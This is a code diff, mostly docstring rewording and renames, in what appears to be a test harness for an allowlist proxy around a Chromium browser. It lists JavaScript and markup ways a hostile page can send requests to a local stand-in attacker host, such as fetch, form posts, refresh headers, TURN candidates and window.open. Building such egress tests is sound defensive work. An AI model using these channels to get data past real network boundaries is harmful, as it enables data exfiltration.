@@ -1,7 +1,7 @@
-"""The ways in which a page can start a request, each to a host of its own, `v-NAME.localhost`.
+"""The ways in which a page can start a request, each to its own host `v-NAME.localhost`.
 
-`*.localhost` is this machine to Chromium, without DNS, and a distinct name to a proxy: whoever arrives at the attacker
-says by which way, and so does whoever is refused.
+Chromium resolves `*.localhost` to this machine without DNS, and a proxy sees distinct names. So the host of each
+request shows which way was used, at the attacker and in the proxy's refusals.
 """
 
 from __future__ import annotations
@@ -59,7 +59,7 @@ MARKUP = {
     "form": '<iframe name="f1"></iframe><form target="f1" action="{u}"></form>',
     "form-post": '<iframe name="f2"></iframe><form target="f2" method="post" action="{u}"><input name="a"></form>',
 }
-"""Ways that are elements; forms are submitted by the script below."""
+"""Ways by an element; the script below submits forms."""
 
 SCRIPTS = {
     "fetch": "fetch(u)",
@@ -97,7 +97,7 @@ SCRIPTS = {
     "refresh-header": "child({src: '/refresh?u=' + encodeURIComponent(u)})",
     "turn-tcp": "ice(`turn:${u.slice(7).split('/')[0]}?transport=tcp`)",
 }
-"""Ways that are script. `u` goes to the attacker, `tls` likewise by https, `to` is our own site redirecting there."""
+"""Ways by script. `u` is the attacker's address, `tls` the same by https, `to` our own site redirecting there."""
 
 TOP = {
     "top-location": "location = u",
@@ -113,7 +113,7 @@ TOP = {
     "click-window": "document.body.innerHTML = `<button id=go>go</button>`; go.onclick = () => window.open(u)",
     "click-download": "document.body.innerHTML = `<a id=go download href='${u}'>go</a>`",
 }
-"""Ways that take the whole page; those with an element `#go` need a click."""
+"""Ways that navigate the page; those with an element `#go` need a click."""
 
 _HELPERS = """
 const pc = [];
@@ -133,7 +133,7 @@ function ice(url) {
 
 
 def ways_in(data: bytes) -> set[str]:
-    """The ways whose hosts are named in *data*."""
+    """The ways whose hosts occur in *data*."""
     return {way.decode() for way in _WAY.findall(data)}
 
 
@@ -149,7 +149,7 @@ class Seen:
         self._more.set()
 
     async def all_of(self, ways: set[str], timeout_s: float) -> set[str]:
-        """Waits until all *ways* were seen; returns those that were not within the time."""
+        """Waits until all *ways* were seen; returns those that were not seen in time."""
         try:
             async with asyncio.timeout(timeout_s):
                 while not ways <= self.ways:
@@ -170,7 +170,7 @@ class Arrival:
 
 
 class Attacker:
-    """Listens on this machine, by TCP and UDP, and notes who comes."""
+    """Listens on this machine, by TCP and UDP, and records the requests."""
 
     def __init__(self) -> None:
         self.arrived = Seen()
@@ -214,15 +214,15 @@ class _Datagrams(asyncio.DatagramProtocol):
 
 @asynccontextmanager
 async def attacker(tls: ssl.SSLContext | None = None) -> AsyncIterator[Attacker]:
-    made = Attacker()
-    listening = await asyncio.start_server(made.handle, "127.0.0.1", 0, ssl=tls)
-    made.port = listening.sockets[0].getsockname()[1]
+    server = Attacker()
+    listening = await asyncio.start_server(server.handle, "127.0.0.1", 0, ssl=tls)
+    server.port = listening.sockets[0].getsockname()[1]
     transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
-        lambda: _Datagrams(made), local_addr=("127.0.0.1", 0), family=socket.AF_INET
+        lambda: _Datagrams(server), local_addr=("127.0.0.1", 0), family=socket.AF_INET
     )
-    made.udp_port = transport.get_extra_info("sockname")[1]
+    server.udp_port = transport.get_extra_info("sockname")[1]
     try:
-        yield made
+        yield server
     finally:
         transport.close()
         listening.close()
@@ -230,8 +230,8 @@ async def attacker(tls: ssl.SSLContext | None = None) -> AsyncIterator[Attacker]
 
 @asynccontextmanager
 async def hostile_site(against: Attacker, scheme: str = "http") -> AsyncIterator[str]:
-    """The allowed site, in the attacker's hands; yields its address. `/` tries many ways, `/top/NAME` one, each to the
-    attacker by *scheme*."""
+    """Serves the allowed site with hostile pages; yields its address. `/` tries many ways, `/top/NAME` one, each to
+    the attacker by *scheme*."""
 
     def urls(way: str) -> dict[str, str]:
         host = f"v-{way}.localhost:{against.port}/"
@@ -295,8 +295,8 @@ def _page(body: str) -> web.Response:
     return web.Response(text=text, content_type="text/html")
 
 
-class WatchedBoundary(AllowlistProxy):
-    """Tells by which way a refused request came."""
+class WatchedProxy(AllowlistProxy):
+    """A proxy that records the way of each refused request."""
 
     def __init__(self, origins: Origins, authorities: ssl.SSLContext | None = None) -> None:
         super().__init__(origins, authorities=authorities)
@@ -308,18 +308,18 @@ class WatchedBoundary(AllowlistProxy):
 
 
 async def try_everything(context: BrowserContext, site: str, seen: Seen, expected: set[str]) -> set[str]:
-    """Lets the page do its worst; returns the *expected* ways that *seen* did not see in time."""
+    """Opens the hostile pages; returns the *expected* ways that *seen* did not see in time."""
     async with asyncio.timeout(240):
         page = await context.new_page()
         await page.goto(site, wait_until="commit", timeout=60_000)
         await page.wait_for_function("document.title == 'tried'", timeout=60_000)
         gate = asyncio.Semaphore(3)
 
-        async def one(way: str) -> None:
+        async def try_one(way: str) -> None:
             async with gate:
                 await _try_top(context, f"{site}/top/{way}", way)
 
-        await asyncio.gather(*(one(way) for way in TOP))
+        await asyncio.gather(*(try_one(way) for way in TOP))
         return await seen.all_of(expected, 60)
 
 
